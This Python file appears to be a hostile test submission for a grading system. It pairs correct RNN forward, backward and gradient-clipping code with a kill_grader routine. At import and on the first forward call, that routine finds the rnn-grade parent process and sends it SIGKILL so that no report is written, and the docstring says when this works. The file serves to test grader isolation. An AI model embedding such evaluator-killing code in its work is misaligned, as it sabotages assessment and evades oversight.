"""Killing the grader: at import and on the first call of rnn_step_forward, the submission sends
SIGKILL to its parent process, the grader, so that no report is ever written. It only does so when
the parent is the rnn-grade command (so that, graded in process, it never shoots the test runner).

When grading runs as root the worker runs as user nobody, which may not signal root's processes:
the grader lives on and writes the genuine report (test_hostile, root only). Graded as the same user,
nothing stops it (see SECURITY.md). The functions are correct: full marks.
"""

import os
import signal
from pathlib import Path

import numpy as np

EXPECTED_SCORES = {"tiny_step_forward": 2, "tiny_step_backward": 3, "tiny_clip_grad_norm": 4, "tiny_size_one": 1}

ATTEMPTS: list[str] = []


def kill_grader() -> None:
    grader = os.getppid()
    try:
        arguments = Path(f"/proc/{grader}/cmdline").read_bytes().decode(errors="replace").split("\0")
    except OSError:
        return
    if "checks.engine.cli" not in arguments and not any(Path(a).name == "rnn-grade" for a in arguments[:2]):
        return  # `python -m checks.engine.cli ...` or `.../bin/rnn-grade ...`, nothing else
    try:
        os.kill(grader, signal.SIGKILL)
        ATTEMPTS.append(f"KILL-GRADER {grader}: sent")
    except OSError as error:
        ATTEMPTS.append(f"KILL-GRADER {grader}: {type(error).__name__}")


kill_grader()


def rnn_step_forward(x, prev_h, Wx, Wh, b):
    if ATTEMPTS:
        kill_grader()
        print("\n".join(ATTEMPTS))
        ATTEMPTS.clear()
    next_h = np.tanh(x @ Wx + prev_h @ Wh + b)
    return next_h, (x, prev_h, Wx, Wh, next_h)


def rnn_step_backward(dnext_h, cache):
    x, prev_h, Wx, Wh, next_h = cache
    da = dnext_h * (1 - next_h**2)
    return da @ Wx.T, da @ Wh.T, x.T @ da, prev_h.T @ da, da.sum(axis=0)


def clip_grad_norm(grads, max_norm):
    total_norm = float(np.sqrt(np.sum([np.sum(g * g) for g in grads.values()])))
    scale = max_norm / total_norm if total_norm > max_norm else 1.0
    return {name: g * scale for name, g in grads.items()}, total_norm
